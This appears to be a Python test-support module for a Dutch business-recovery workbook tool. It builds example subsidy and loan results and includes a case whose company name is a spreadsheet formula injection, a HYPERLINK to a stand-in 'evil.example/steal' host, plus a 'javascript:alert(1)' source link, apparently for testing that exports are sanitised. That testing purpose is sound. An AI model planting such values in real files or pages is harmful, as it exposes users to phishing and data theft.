"""Shared set-up for the workbook tests (no tests here): assessed examples, measures."""

from __future__ import annotations

import datetime as dt
from dataclasses import replace
from pathlib import Path

from core.advice.assess import assess
from core.case_file import load_case
from core.inputs.case import Case
from core.result import CashPath, MeasureResult, Result
from tests.conftest import EXAMPLES

TODAY = dt.date(2025, 1, 15)
METAAL = EXAMPLES / "metaal-orderboek.herstelscan.json"
ELEKTRONICA = EXAMPLES / "elektronica-china.herstelscan.json"
INJECTION = '=HYPERLINK("http://evil.example/steal","Klik hier")'


def example_result(path: Path = METAAL) -> Result:
    return assess(load_case(path), today=TODAY)


def injected_case() -> Case:
    """The electronics example under a hostile name, with one assumption changed."""
    case = load_case(ELEKTRONICA)
    return replace(
        case,
        company=replace(case.company, name=INJECTION),
        assumptions=(("elasticity", 2.5),),
    )


def sample_measures(result: Result) -> list[MeasureResult]:
    """Measures as the measures engine returns them, covering every verdict."""
    ids = [s.id for s in result.scenarios]
    return [
        MeasureResult(
            "now",
            "historical",
            "eligible",
            345289.0,
            ["omzetverlies 21,9% ≥ 20% in okt–dec 2020"],
            ["revenue drop 21.9% ≥ 20% in Oct–Dec 2020"],
            ["https://www.uwv.nl/werkgevers/now", "https://www.rijksoverheid.nl/now"],
            ("2020-03-01", "2022-03-31"),
            {sid: {"verdict": "not_eligible", "amount_eur": None} for sid in ids[:2]}
            | {sid: {"verdict": "eligible", "amount_eur": 345289.0} for sid in ids[2:]},
            kind="subsidy",
            per="once",
        ),
        MeasureResult(
            "praktijkleren",
            "current",
            "possible",
            2700.0,
            ["1 BBL-leerling × € 2.700"],
            ["1 BBL apprentice × €2,700"],
            ["https://www.rvo.nl/subsidies-financiering/subsidieregeling-praktijkleren"],
            ("2014-01-01", None),
            kind="subsidy",
            per="study_year",
            claimable_now=True,
        ),
        MeasureResult(
            "kwr",
            "proposal",
            "proposal",
            None,
            ["FME vraagt om een kenniswerkersregeling"],
            ["FME asks for a knowledge-worker scheme"],
            ["javascript:alert(1)"],
            (None, None),
        ),
        MeasureResult(
            "bmkb",
            "current",
            "not_eligible",
            None,
            ["geen krediet"],
            ["no loan"],
            [],
            (None, None),
            alternatives="cash_need",
        ),
        MeasureResult(
            "wtv", "current", "not_eligible", None, ["geen daling"], ["no drop"], [], (None, None)
        ),
        *(
            MeasureResult(
                loan,
                "historical",
                "possible",
                31940.0,
                ["kastekort € 31.940"],
                ["cash shortfall €31,940"],
                [],
                (None, None),
                kind="loan",
                per="once",
                alternatives="cash_need",
            )
            for loan in ("kkc", "qredits")
        ),
    ]


def with_measures(result: Result) -> Result:
    cash = [
        CashPath(s.id, s.months, [100_000.0] * len(s.months), "2021-02" if i > 1 else None)
        for i, s in enumerate(result.scenarios)
    ]
    return replace(
        result, measures=sample_measures(result), cash=cash, catalogue_as_of="2025-01-01"
    )
